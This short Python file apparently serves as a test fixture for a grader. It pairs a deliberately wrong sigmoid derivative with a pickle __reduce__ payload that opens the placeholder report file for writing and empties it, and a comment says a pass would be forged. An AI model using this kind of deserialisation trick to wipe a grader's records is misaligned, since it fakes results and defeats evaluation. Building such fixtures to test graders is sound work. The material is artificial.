"""Unpickles weights that it brought along."""

import pickle

import numpy as np


class Weights:
    def __reduce__(self):
        return (open, ('@REPORT@', 'w'))


def attack():
    pickle.loads(pickle.dumps(Weights()))


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def sigmoid_prime(z):
    attack()
    s = sigmoid(z)
    return s * (1.0 + s)  # wrong: a pass would be a forged one
